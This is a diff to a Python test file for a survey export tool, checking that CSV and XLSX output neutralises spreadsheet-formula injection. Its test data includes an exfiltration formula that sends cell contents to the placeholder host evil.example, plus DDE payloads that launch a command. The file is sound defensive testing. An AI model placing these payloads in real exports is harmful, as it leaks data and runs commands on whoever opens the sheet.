@@ -26,7 +26,8 @@ from survey.store import ResponseStore
 from survey.types import QUESTION_TYPES
 
 FORMATS = ("csv", "parquet", "sav", "dta", "xlsx")
-# Submitted as answers; the store trims text, so the leading tab and CR+LF become "=1+1", "=2+2".
+# Submitted as answers; the store trims text, so the leading tab and CR+LF become "=1+1", "=2+2"
+# (comments is a multiline question: line breaks inside are kept).
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
     "+cmd|' /C calc'!A0",
@@ -34,7 +35,7 @@ HOSTILE = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r\n=2+2",
-    "a tab\tinside and a CR\rinside",
+    "two lines:\n=3+3 and a CR+LF\r\n@inside",
     "-5",
     "Nur'aini D'Souza — Śląsk 日本 🙂",
     "\uff1d1+1",
@@ -102,7 +103,8 @@ def test_hostile_text_is_neutralised_in_csv_and_stays_text(household_store):
     assert "'=1+1" in comments and "'=2+2" in comments  # the trimmed tab and CR+LF cases
     assert "-5" in comments  # a number stays a number
     assert "Nur'aini D'Souza — Śląsk 日本 🙂" in comments
-    assert "a tab\tinside and a CR\rinside" in comments  # quoted, not split into rows
+    assert len(rows) == len(HOSTILE)  # line breaks are quoted, not new rows
+    assert any(c.startswith("two lines:\n=3+3") for c in comments)
     assert "'\uff1d1+1" in comments
     assert {"'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0"} <= comments
     for table in ("household", "household_members"):  # no cell anywhere could run as a formula
@@ -121,7 +123,7 @@ def test_hostile_text_is_a_text_cell_in_xlsx_and_numbers_are_numbers(household_s
     for r, row in enumerate(rows, start=2):
         rid = row[at["response_id"]]
         # the stored text, no apostrophe added (a CR is the LF of Excel's line breaks)
-        assert row[at["comments"]] == stored.loc[rid, "comments"].replace("\r", "\n")
+        assert row[at["comments"]] == stored.loc[rid, "comments"].replace("\r\n", "\n").replace("\r", "\n")
         cell = sheet.cell(row=r, column=at["comments"] + 1)
         assert cell.data_type == "s"
         assert cell.quotePrefix == is_formula_like(cell.value)
